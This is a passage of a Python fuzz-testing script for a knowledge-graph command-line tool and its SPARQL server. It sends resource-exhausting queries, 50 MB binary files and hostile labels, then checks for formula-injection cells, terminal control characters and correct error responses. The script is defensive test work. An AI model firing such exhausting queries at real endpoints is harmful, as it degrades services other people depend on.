    args = ["query", "--sparql", query, *project_args(project)]
    outputs = {fmt: run_cli([*args, "--format", fmt]) for fmt in ("json", "csv", "tsv", "md", "table")}
    problems = [f"query {fmt}: {p}" for fmt, out in outputs.items() for p in clean_exit_problems(out, (0,))]
    if problems:
        return problems
    by_node = {label_node(i): (i, label) for i, label in enumerate(labels)}
    bindings = json.loads(outputs["json"].stdout)["results"]["bindings"]
    for row in bindings:
        i, label = by_node[row["node"]["value"].replace(KG_NS, "kg:")]
        for var, want in (("label", label), ("node_label", _shown(label, i))):
            if row[var]["value"] != want:
                problems.append(f"query json: {var} of {label[:40]!r} reads back as {row[var]['value'][:60]!r}")
    for fmt, dialect in (("csv", "excel"), ("tsv", "excel-tab")):
        rows = list(csv.reader(io.StringIO(outputs[fmt].stdout, newline=""), dialect=dialect))
        for cells in (dict(zip(rows[0], row, strict=False)) for row in rows[1:]):
            i, label = by_node[cells["node"]]
            for var, want in (("label", label), ("node_label", _shown(label, i))):
                if cells.get(var) != formula_guarded(want):
                    problems.append(f"query {fmt}: {var} of {label[:40]!r} reads back as {cells.get(var, '')[:60]!r}")
        problems += [f"query {fmt}: the cell {c[:40]!r} starts a formula" for c in formula_cells(rows)]
        if len(rows) != len(labels) + 1:
            problems.append(f"query {fmt}: {len(rows) - 1} rows read back for {len(labels)} labels")
    md_rows, markup = _md_rows(outputs["md"].stdout)
    if markup:
        problems.append(f"query md: labels render as markup: {sorted(set(markup))}")
    for row in md_rows[1:]:
        i, label = by_node[row[0]]
        if row[1:] != [one_line(_shown(label, i)), one_line(label)]:
            problems.append(f"query md: the cells of {label[:40]!r} read back as {[c[:40] for c in row[1:]]}")
    if len(md_rows) != len(labels) + 1:
        problems.append(f"query md: {len(md_rows) - 1} rows read back for {len(labels)} labels")
    table = outputs["table"].stdout
    if len(table.rstrip("\n").split("\n")) != len(labels) + 3:
        problems.append("query table: a row spans more than one line")
    if re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", table):
        problems.append("query table: a control character reaches the terminal")
    problems += [f"query table: {label[:40]!r} is not shown" for label in labels if one_line(label) not in table]
    return problems


def check_labels_in_exports(project, labels: list[str], folder: Path) -> list[str]:
    """The labels through `kg export` in each format (written to a file), parsed back."""
    import networkx as nx
    from rdflib import Graph, URIRef
    from rdflib.namespace import RDFS

    select = folder / "labelled.rq"
    values = " ".join(label_node(i) for i in range(len(labels)))
    select.write_text(f"CONSTRUCT {{ ?n ?p ?o }} WHERE {{ VALUES ?n {{ {values} }} ?n ?p ?o }}", encoding="utf-8")
    base = ["export", "--query", str(select), "--force", *project_args(project)]
    nodes = {KG_NS + label_node(i).removeprefix("kg:"): label for i, label in enumerate(labels)}
    problems = []
    for fmt, parser in (("turtle", "turtle"), ("nt", "nt"), ("jsonld", "json-ld"), ("graphml", ""), ("gexf", "")):
        target = folder / f"out.{fmt}"
        out = run_cli([*base, "--format", fmt, "-o", str(target)])
        found = clean_exit_problems(out, (0,))
        if not found:
            try:
                if parser:
                    graph = Graph().parse(target, format=parser)
                    for node, label in nodes.items():
                        got = {str(o) for o in graph.objects(URIRef(node), RDFS.label)}
                        if got != {label}:
                            found.append(f"{label[:40]!r} reads back as {sorted(x[:40] for x in got)}")
                else:
                    read = nx.read_graphml if fmt == "graphml" else nx.read_gexf
                    graph = read(target)
                    for node, label in nodes.items():
                        for column in ("label_en", "label_zh_Hans"):
                            got = graph.nodes[node].get(column) or ""
                            if got != xml_safe(label):
                                found.append(f"{column} {label[:40]!r} reads back as {got[:40]!r}")
            except Exception as exc:  # a file its own format's reader cannot read
                found.append(f"does not parse: {type(exc).__name__}: {str(exc)[:160]}")
        problems += [f"export {fmt}: {p}" for p in found]
    tables = folder / "tables"
    out = run_cli([*base, "--format", "csv", "-o", str(tables)])
    found = clean_exit_problems(out, (0,))
    if not found:
        rows = list(csv.reader((tables / "nodes.csv").open(encoding="utf-8", newline="")))
        edges = list(csv.reader((tables / "edges.csv").open(encoding="utf-8", newline="")))
        by_id = {r[0]: dict(zip(rows[0], r, strict=False)) for r in rows[1:] if r}
        for node, label in nodes.items():
            for column in ("label_en", "label_zh_Hans"):
                got = by_id.get(node, {}).get(column)
                if got != formula_guarded(label):
                    found.append(f"{column} {label[:40]!r} reads back as {str(got)[:40]!r}")
        found += [f"the cell {c[:40]!r} starts a formula" for c in formula_cells(rows + edges)]
    problems += [f"export csv: {p}" for p in found]
    return problems


def check_labels(project, labels: list[str], folder: Path) -> list[str]:
    """Give the labels to nodes of `project` and read them back from every query and export format."""
    (project.triples_dir / "robustness-labels.ttl").write_text(labels_turtle(labels), encoding="utf-8")
    return check_labels_in_queries(project, labels) + check_labels_in_exports(project, labels, folder)


# ====================================================================== projects


def make_project(base: Path, triples: dict[str, str]):
    """tests/conftest.py's make_project: the real ontology and the given triples files."""
    from tests.conftest import make_project as make

    return make(base, triples)


def label_project(base: Path):
    """The small world of the query tests plus nodes whose labels each case replaces."""
    world = (REPO / "tests" / "fixtures" / "queries" / "world.ttl").read_text(encoding="utf-8")
    return make_project(base, {"world.ttl": world, "robustness-labels.ttl": labels_turtle(["x"])})


def real_project(index_dir: Path):
    """The checkout's ontology and triples, with an index of its own."""
    from kg.paths import open_project

    return open_project(root=REPO, index_dir=index_dir)


# ====================================================================== the report


@dataclass
class Category:
    """What one category tried and found."""

    name: str
    cases: int = 0
    faults: Counter = field(default_factory=Counter)
    failures: dict[str, tuple[str, list[str]]] = field(default_factory=dict)
    """By kind of fault: the first failing case and its problems."""
    failed_cases: int = 0
    seconds: float = 0.0

    def record(self, kind: str, case: str, problems: list[str]) -> None:
        self.cases += 1
        self.faults[kind] += 1
        if problems:
            self.failed_cases += 1
            self.failures.setdefault(kind, (case, problems))

    def print(self) -> None:
        print(f"\n## {self.name}: {self.cases} cases in {self.seconds:.0f} s, {self.failed_cases} failing")
        print("   faults injected: " + ", ".join(f"{k} {n}" for k, n in sorted(self.faults.items())))
        for kind, (case, problems) in sorted(self.failures.items()):
            print(f"   FAILURE [{kind}] {case[:160]}")
            for problem in problems[:3]:
                print(f"       {problem[:240]}")


@contextmanager
def timed(category: Category) -> Iterator[Category]:
    start = time.monotonic()
    try:
        yield category
    finally:
        category.seconds = time.monotonic() - start


def run_data(examples: int, work: Path, big: bool) -> Category:
    category = Category("data files: kg validate, kg stats, kg query NAME on mutated triples")
    project = make_project(work / "data", {COMPANION: seed_texts()[COMPANION]})

    @hypothesis_settings(examples)
    @given(mutated_files())
    def case(mutation: Mutation) -> None:
        problems, _ = check_data_file(project, mutation)
        category.record(mutation.kind, repr(mutation), problems)

    with timed(category):
        case()
        fixed = {
            "binary-50MB": b"\x00\xff" * (25 * 2**20),
            "syntax-error-after-50MB": big_turtle(50, "\nkg:broken kg:p .\n"),
            "token-over-16MB": big_turtle(0, '\nkg:case-x rdfs:label "' + "x" * (17 * 2**20) + '" .\n'),
        }
        if big:
            fixed["valid-50MB"] = big_turtle(50)
        for stale in project.triples_dir.glob("*.ttl"):
            if stale.name != COMPANION:
                stale.unlink()
        for kind, data in fixed.items():
            path = project.triples_dir / "big.ttl"
            path.write_bytes(data)
            problems = []
            for command in (["stats"], ["query", "entities-by-class"]):
                out = run_subprocess([*command, *project_args(project)], timeout=300)
                found = clean_exit_problems(out, (0, 2))
                if out.exit_code == 2:
                    found += _location_problems(out.stderr.strip().removeprefix("error: "), path, data, "the error")
                problems += [f"kg {command[0]}: {p}" for p in found]
            category.record(kind, f"{kind} ({len(data) // 2**20} MB)", problems)
            path.unlink()
    return category


def run_queries(examples: int, work: Path) -> Category:
    category = Category("queries: kg query --sparql TEXT --timeout 3")
    project = real_project(work / "index")
    from kg.store import open_graph

    open_graph(project)

    @hypothesis_settings(examples)
    @given(garbage_queries())
    def garbage(text: str) -> None:
        problems, _ = check_query(project, text)
        category.record("garbage", repr(text[:160]), problems)

    @hypothesis_settings(examples)
    @given(adversarial_queries())
    def hostile(query: Adversarial) -> None:
        problems, _ = check_query(project, query.text, query.expect)
        category.record(query.kind, repr(query), problems)

    with timed(category):
        garbage()
        hostile()
        for kind, size in (("cartesian", 3), ("path-over-everything", 1), ("nested-groups", 5000)):
            query = adversarial(kind, size)
            out = run_subprocess(
                ["query", "--sparql", query.text, "--timeout", QUERY_TIMEOUT, *project_args(project)], timeout=60
            )
            category.record(f"subprocess {kind}", repr(query), query_outcome_problems(out, query.expect))
    return category


SERVE_FIXED = (
    ("nested-groups", 5000),
    ("nested-exists", 2000),
    ("nested-calls", 2000),
    ("negations", 30000),
    ("bind-chain", 4000),
    ("union-chain", 8000),
    ("object-list", 400),
    ("glued-service", 1),
    ("apostrophe-iri", 1),
    ("service-after-cr-comment", 1),
    ("cartesian", 3),
    ("path-over-everything", 1),
)


def serve_cases() -> list[Adversarial]:
    """The fixed adversarial sample sent to `kg serve`, and 300,000 CJK characters of garbage."""
    cases = [adversarial(kind, size) for kind, size in SERVE_FIXED]
    return [*cases, Adversarial("cjk-garbage", 300_000, "中" * 300_000, "error")]


def post_query(url: str, text: str):
    import requests

    return requests.post(
        url + "sparql",
        data=text.encode("utf-8", "surrogatepass"),
        headers={"Content-Type": "application/sparql-query", "Accept": "application/sparql-results+json"},
        timeout=120,
    )


COUNT = "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }"


def run_serve(examples: int, work: Path) -> Category:
    from kg.serve.server import Server, Settings
    from kg.store import open_graph

    category = Category("serve: adversarial queries against kg serve (400/403/503, then a valid answer)")
    project = real_project(work / "serve-index")
    expected = len(open_graph(project))
    with timed(category), Server(project, Settings(port=0, processes=1, time_limit=3.0)) as server:

        @hypothesis_settings(examples)
        @given(st.one_of(adversarial_queries(), garbage_queries().map(lambda t: Adversarial("garbage", 0, t, "any"))))
        def case(query: Adversarial) -> None:
            response = post_query(server.url, query.text)
            problems = serve_problems(response.status_code, response.text, serve_expectation(query))
            category.record(query.kind, repr(query), problems)

        for query in serve_cases():
            response = post_query(server.url, query.text)
            problems = serve_problems(response.status_code, response.text, serve_expectation(query))
            category.record(query.kind, repr(query), problems)
        case()
        after = post_query(server.url, COUNT)
        answered = after.status_code == 200 and int(after.json()["results"]["bindings"][0]["n"]["value"]) == expected
        category.record("valid query afterwards", COUNT, [] if answered else [f"HTTP {after.status_code}"])
    return category


def run_labels(examples: int, work: Path) -> Category:
    category = Category("labels: hostile labels through every query and export format")
    project = label_project(work / "labels")
    folder = work / "label-outputs"
    folder.mkdir()

    @hypothesis_settings(examples)
    @given(st.lists(hostile_labels(), min_size=1, max_size=4))
    def case(labels: list[str]) -> None:
        category.record("generated labels", repr([x[:60] for x in labels]), check_labels(project, labels, folder))

    with timed(category):
        case()
        fixed = [x for x in HOSTILE_LABELS if "\x1b" not in x]
        category.record("fixed hostile labels", f"{len(fixed)} labels", check_labels(project, fixed, folder))
    return category


RUNNERS = {"data": run_data, "queries": run_queries, "serve": run_serve, "labels": run_labels}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--examples", type=int, default=50, help="Generated cases per generator (default 50).")
    parser.add_argument("--only", default=",".join(RUNNERS), help="Categories to run, comma-separated.")
    parser.add_argument("--big", action="store_true", help="Also a valid 50 MB file (about a minute more).")
    options = parser.parse_args(argv)
    chosen = [c.strip() for c in options.only.split(",") if c.strip()]
    unknown = set(chosen) - set(RUNNERS)
    if unknown:
        parser.error(f"unknown categories: {', '.join(sorted(unknown))}")
    print(f"robustness: {options.examples} generated cases per generator; categories {', '.join(chosen)}")
    categories = []
    with tempfile.TemporaryDirectory(prefix="kg-robustness-") as tmp:
        work = Path(tmp)
        for name in chosen:
            runner = RUNNERS[name]
            category = runner(options.examples, work, options.big) if name == "data" else runner(options.examples, work)
            category.print()
            categories.append(category)
            sys.stdout.flush()
        shutil.rmtree(work, ignore_errors=True)
    cases = sum(c.cases for c in categories)
    faults = sum(sum(c.faults.values()) for c in categories)
    failing = sum(c.failed_cases for c in categories)
    print(f"\nin all: {cases} cases, {faults} faults injected, {failing} failing cases")
    return 1 if failing else 0


if __name__ == "__main__":
    raise SystemExit(main())
